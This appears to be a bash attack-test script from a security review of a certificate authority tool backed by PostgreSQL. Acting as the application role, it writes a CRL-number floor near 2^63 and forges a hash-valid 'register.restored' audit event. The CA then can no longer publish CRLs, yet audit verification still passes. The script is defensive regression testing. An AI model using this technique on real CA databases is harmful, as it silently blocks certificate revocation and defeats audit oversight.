#!/usr/bin/env bash
# F12 fix bypass (PostgreSQL application role): a CRL-number floor near 2^63 "proven" by a register.restored event
# the role appends itself with a correct hash: the CA signs CRL 2^63-1, then can never publish again; audit verify rc=0.
if [ -z "${TIRKEU_TEST_PG:-}" ]; then exec /work/wt-lead/tests/pg/pg_server.sh bash "$(readlink -f "$0")" "$@"; fi
NAME=pg-forged-floor; . "$(dirname "$0")/common.sh"
FORGE=$(dirname "$(readlink -f "$0")")/forge_event.py
P="$PGHOST:$PGPORT"
psql -d postgres -q -c "CREATE DATABASE r1 OWNER tirkeu_owner" || exit 1
DB="postgresql://tirkeu_owner@$P/r1" staff >/dev/null || { cat $W/err; exit 1; }
DB="postgresql://tirkeu_owner@$P/r1" cli db init --app-role tirkeu_app >/dev/null
DB="postgresql://tirkeu_app@$P/r1"; APPURL=$DB
as admin ca add --code NCA --name "Attack Test CA" --kind national >/dev/null || { show $?; exit 1; }
as admin ca init --code NCA --key-algorithm p256 --key-out "$W/nca.p8" --passphrase-file "$W/ca.pass" --cert-out "$W/nca.pem" >/dev/null || { show $?; exit 1; }
pointers NCA >/dev/null
mkdir -p $W/pub; as off1 crl publish --ca NCA --out $W/pub --ca-passphrase-file $W/ca.pass; show $?
say "application role: floor 2^63-2 and a forged register.restored event naming it"
psql "$APPURL" -X -q -t -A -c "INSERT INTO crl_number_floors(ca_id, highest_published, recorded_at) SELECT id, 9223372036854775806, '2026-12-07T00:00:00.000Z' FROM cas WHERE code='NCA' ON CONFLICT (ca_id) DO UPDATE SET highest_published=excluded.highest_published" 2>&1 | sed 's/^/   /'
python3 $FORGE "$APPURL" admin register.restored "backup.sqlite" '{"from":"/srv/backup/old.sqlite","crl_numbers_lost":{"NCA":9223372036854775806}}' | sed 's/^/   /'
as off1 crl publish --ca NCA --out $W/pub --ca-passphrase-file $W/ca.pass; say "crl publish: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
openssl crl -in $W/pub/NCA.crl -inform DER -noout -crlnumber 2>/dev/null | sed 's/^/   /'
as off1 crl publish --ca NCA --out $W/pub --ca-passphrase-file $W/ca.pass; say "crl publish again: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
as aud audit verify; say "audit verify: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
exit 0
